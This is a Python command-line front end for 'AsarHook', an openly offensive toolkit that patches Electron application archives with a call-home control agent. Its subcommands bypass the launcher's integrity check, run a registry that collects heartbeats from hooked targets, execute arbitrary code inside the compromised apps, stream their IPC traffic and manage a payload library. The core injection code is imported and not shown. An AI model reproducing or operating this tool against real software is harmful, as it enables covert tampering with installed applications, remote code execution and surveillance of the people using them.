#!/usr/bin/env python3
"""
AsarHook - command line front end

Patch Electron archives with a control agent, keep the launcher's integrity
hash in step, run the call-home registry and drive hooked targets.
"""

import argparse
import asyncio
import json
import logging
import sys
from datetime import datetime
from pathlib import Path
from typing import Any, Dict

from rich.console import Console
from rich.panel import Panel
from rich.table import Table

from core.exceptions import AsarHookError
from core.monitor_client import MonitorClient
from core.rce_client import RCEClient
from services.injector_service import InjectorService
from services.registry_service import RegistryService
from shared.settings import get_settings

console = Console()
logger = logging.getLogger("asarhook")

VERSION = "1.0.0"


def setup_logging(verbose: bool = False):
    level = logging.DEBUG if verbose else getattr(logging, get_settings().LOG_LEVEL.upper(), logging.INFO)
    logging.basicConfig(
        level=level,
        format='%(asctime)s | %(levelname)-8s | %(name)s | %(message)s',
        datefmt='%Y-%m-%d %H:%M:%S'
    )
    logging.getLogger('websockets').setLevel(logging.WARNING)
    logging.getLogger('aiohttp.access').setLevel(logging.WARNING)


def report(result: Dict[str, Any], title: str) -> int:
    """Print a service result; returns the process exit code"""
    if not result.get("success"):
        console.print(f"[red]{title} failed: {result.get('error')}[/red]")
        if result.get("pattern"):
            console.print(f"[dim]pattern: {result['pattern']}[/dim]")
        return 1
    table = Table(title=title, show_header=True, header_style="bold cyan")
    table.add_column("Field", style="dim")
    table.add_column("Value")
    for key, value in result.items():
        if key == "success":
            continue
        if isinstance(value, (dict, list)):
            value = json.dumps(value, indent=2, default=str)
        table.add_row(key, str(value))
    console.print(table)
    return 0


# ==================== Archive commands ====================

def cmd_setup(args) -> int:
    return report(InjectorService().setup(args.archive), "Setup")


def cmd_inject(args) -> int:
    return report(InjectorService().inject(args.agent, args.archive, args.entry), "Inject")


def cmd_hook(args) -> int:
    result = InjectorService().hook(
        args.archive,
        app_uuid=args.uuid,
        debug_port=args.port,
        enable_call_home=not args.no_call_home,
        entry_script=args.entry,
    )
    return report(result, "Hook")


def cmd_backups(args) -> int:
    service = InjectorService()
    if args.action == "restore":
        return report(service.restore_backup(args.backup, args.archive), "Restore")
    if args.action == "delete":
        return report(service.delete_backup(args.backup), "Delete")

    result = service.list_backups(args.for_archive)
    if not result["success"]:
        return report(result, "Backups")
    table = Table(title="Backups", show_header=True, header_style="bold cyan")
    table.add_column("File")
    table.add_column("Archive", style="dim")
    table.add_column("Path hash")
    table.add_column("Created")
    table.add_column("Size", justify="right")
    for backup in result["backups"]:
        created = datetime.fromtimestamp(backup["timestamp"] / 1000).strftime("%Y-%m-%d %H:%M:%S")
        table.add_row(backup["name"], backup["originalName"], backup["hash"], created, str(backup["size"]))
    console.print(table)
    return 0


def cmd_bypass(args) -> int:
    result = InjectorService().bypass(args.binary, args.archive, create_backups=not args.no_backup)
    return report(result, "Integrity bypass")


def cmd_integrity(args) -> int:
    service = InjectorService()
    if args.action == "info":
        return report(service.archive_info(args.archive), "Archive")
    if args.action == "restore":
        return report(service.restore_integrity(args.binary, args.archive), "Integrity restore")
    if args.action == "probe":
        return report(asyncio.run(service.probe(args.binary, args.timeout)), "Launch probe")
    return report(service.validate_integrity(args.binary, args.archive), "Integrity")


def cmd_payloads(args) -> int:
    service = InjectorService()
    if args.action == "init":
        return report(service.init_payloads(), "Payloads")
    if args.action == "create":
        content = Path(args.file).read_text(encoding="utf-8") if args.file else sys.stdin.read()
        return report(service.create_payload(args.name, content, args.category), "Payload")

    result = service.list_payloads()
    if not result["success"]:
        return report(result, "Payloads")
    table = Table(title="Payloads", show_header=True, header_style="bold cyan")
    table.add_column("Category", style="dim")
    table.add_column("Name")
    table.add_column("Size", justify="right")
    for payload in result["payloads"]:
        table.add_row(payload["category"], payload["relativePath"], str(payload["size"]))
    console.print(table)
    return 0


# ==================== Live commands ====================

async def _run_registry(host: str, port: int) -> int:
    service = RegistryService()
    result = await service.start(host, port)
    if not result["success"]:
        return report(result, "Registry")
    console.print(Panel.fit(f"Call-home registry listening on {host}:{port}\nCtrl+C to stop", style="cyan"))

    def on_heartbeat(record):
        console.print(f"[green]<- {record.name}[/green] {record.uuid} {record.ip}:{record.port} "
                      f"jobs={record.active_jobs}")

    service.registry.add_listener(on_heartbeat)
    try:
        while True:
            await asyncio.sleep(3600)
    finally:
        await service.stop()


def cmd_registry(args) -> int:
    settings = get_settings()
    try:
        return asyncio.run(_run_registry(args.host or settings.REGISTRY_HOST, args.port or settings.REGISTRY_PORT))
    except KeyboardInterrupt:
        console.print("\n[yellow]Registry stopped[/yellow]")
        return 0


async def _exec(args) -> int:
    code = Path(args.file).read_text(encoding="utf-8") if args.file else args.code
    settings = get_settings()
    async with RCEClient(args.host, args.port, settings.POLL_ATTEMPTS, settings.POLL_DELAY_S) as client:
        job = await client.execute(code, args.process)
    status = job.get("status")
    style = "green" if status == "completed" else "red"
    console.print(f"[{style}]{job.get('jobId')} {status}[/{style}]")
    if status == "completed":
        console.print_json(json.dumps(job.get("result"), default=str))
        return 0
    if job.get("error"):
        console.print(f"[red]{job['error']}[/red]")
    if job.get("stack") and args.verbose:
        console.print(job["stack"], style="dim")
    return 1


def cmd_exec(args) -> int:
    if not args.code and not args.file:
        console.print("[red]Error: provide code or --file[/red]")
        return 1
    try:
        return asyncio.run(_exec(args))
    except (AsarHookError, OSError) as e:
        console.print(f"[red]Execution failed: {e}[/red]")
        return 1


async def _monitor(args) -> int:
    if args.deploy:
        async with RCEClient(args.host, args.agent_port) as client:
            job = await client.deploy_traffic_monitor(args.port, args.host, args.flavor)
        if job.get("status") != "completed":
            console.print(f"[red]Monitor deployment failed: {job.get('error')}[/red]")
            return 1
    async with MonitorClient(args.host, args.port) as client:
        async for message in client.messages():
            kind = message.get("type")
            if kind == "connection":
                console.print(f"[cyan]Connected as {message.get('clientId')}[/cyan]")
            elif kind == "ipc-traffic":
                console.print(f"[dim]Backlog: {len(message.get('data', []))} of {message.get('total')}[/dim]")
            elif kind == "ipc-message":
                event = message.get("data", {})
                console.print(f"[blue]{event.get('type'):<16}[/blue] {event.get('channel')} "
                              f"[dim]{json.dumps(event.get('args') or event.get('result'), default=str)[:200]}[/dim]")
    return 0


def cmd_monitor(args) -> int:
    try:
        return asyncio.run(_monitor(args))
    except KeyboardInterrupt:
        return 0
    except (AsarHookError, OSError) as e:
        console.print(f"[red]Monitor failed: {e}[/red]")
        return 1


def cmd_api(args) -> int:
    import uvicorn
    from api.app import create_app

    settings = get_settings()
    uvicorn.run(
        create_app(settings, start_registry=not args.no_registry),
        host=args.host or settings.API_HOST,
        port=args.port or settings.API_PORT,
    )
    return 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog='asarhook',
        description='Electron archive injection and remote control toolkit',
        formatter_class=argparse.RawDescriptionHelpFormatter,
        epilog='''
Examples:
  asarhook hook /Applications/App.app/Contents/Resources/app.asar
  asarhook bypass ./App ./resources/app.asar
  asarhook registry
  asarhook exec --port 10100 "return app.getName()"
  asarhook monitor --deploy --agent-port 10100 --port 11100
'''
    )
    parser.add_argument('--verbose', '-v', action='store_true', help='Enable verbose logging')
    parser.add_argument('--version', action='version', version=f'AsarHook {VERSION}')
    sub = parser.add_subparsers(dest='command', required=True)

    p = sub.add_parser('setup', help='Inject the passthrough agent')
    p.add_argument('archive')
    p.set_defaults(func=cmd_setup)

    p = sub.add_parser('inject', help='Inject an agent file (backs up the archive first)')
    p.add_argument('agent')
    p.add_argument('archive')
    p.add_argument('--entry', help='Entry script inside the archive')
    p.set_defaults(func=cmd_inject)

    p = sub.add_parser('hook', help='Inject the call-home control agent')
    p.add_argument('archive')
    p.add_argument('--uuid', help='Target identifier (random if omitted)')
    p.add_argument('--port', type=int, help='Control port inside the target')
    p.add_argument('--entry', help='Entry script inside the archive')
    p.add_argument('--no-call-home', action='store_true')
    p.set_defaults(func=cmd_hook)

    p = sub.add_parser('backups', help='List, restore or delete archive backups')
    p.add_argument('action', choices=['list', 'restore', 'delete'], nargs='?', default='list')
    p.add_argument('backup', nargs='?')
    p.add_argument('archive', nargs='?')
    p.add_argument('--for', dest='for_archive', metavar='ARCHIVE', help='Only list backups taken from this archive path')
    p.set_defaults(func=cmd_backups)

    p = sub.add_parser('bypass', help='Rebind the launcher to the current archive hash')
    p.add_argument('binary')
    p.add_argument('archive')
    p.add_argument('--no-backup', action='store_true')
    p.set_defaults(func=cmd_bypass)

    p = sub.add_parser('integrity', help='Inspect archive integrity')
    p.add_argument('action', choices=['validate', 'restore', 'probe', 'info'])
    p.add_argument('--binary')
    p.add_argument('--archive')
    p.add_argument('--timeout', type=float, default=10.0)
    p.set_defaults(func=cmd_integrity)

    p = sub.add_parser('payloads', help='Manage the payload library')
    p.add_argument('action', choices=['list', 'create', 'init'], nargs='?', default='list')
    p.add_argument('--name')
    p.add_argument('--category', default='custom')
    p.add_argument('--file', help='Read payload content from a file instead of stdin')
    p.set_defaults(func=cmd_payloads)

    p = sub.add_parser('registry', help='Run the call-home registry in the foreground')
    p.add_argument('--host')
    p.add_argument('--port', type=int)
    p.set_defaults(func=cmd_registry)

    p = sub.add_parser('exec', help='Execute code in a hooked target')
    p.add_argument('code', nargs='?')
    p.add_argument('--file')
    p.add_argument('--host', default='127.0.0.1')
    p.add_argument('--port', type=int, default=10100)
    p.add_argument('--process', choices=['main', 'renderer'], default='main')
    p.set_defaults(func=cmd_exec)

    p = sub.add_parser('monitor', help='Stream a target\'s message bus traffic')
    p.add_argument('--host', default='127.0.0.1')
    p.add_argument('--port', type=int, default=11100, help='Monitor port')
    p.add_argument('--deploy', action='store_true', help='Deploy the monitor through the control agent first')
    p.add_argument('--agent-port', type=int, default=10100)
    p.add_argument('--flavor', choices=['electron', 'python'], default='electron')
    p.set_defaults(func=cmd_monitor)

    p = sub.add_parser('api', help='Serve the operator API')
    p.add_argument('--host')
    p.add_argument('--port', type=int)
    p.add_argument('--no-registry', action='store_true')
    p.set_defaults(func=cmd_api)

    return parser


def main():
    parser = build_parser()
    args = parser.parse_args()
    setup_logging(args.verbose)

    if args.command == 'backups' and args.action != 'list' and not args.backup:
        parser.error('backups restore/delete need a backup name')
    if args.command == 'backups' and args.action == 'restore' and not args.archive:
        parser.error('backups restore needs the target archive path')
    if args.command == 'integrity' and args.action != 'info' and not args.binary:
        parser.error('--binary is required')
    if args.command == 'integrity' and args.action in ('validate', 'restore', 'info') and not args.archive:
        parser.error('--archive is required')
    if args.command == 'payloads' and args.action == 'create' and not args.name:
        parser.error('--name is required')

    sys.exit(args.func(args))


if __name__ == '__main__':
    main()
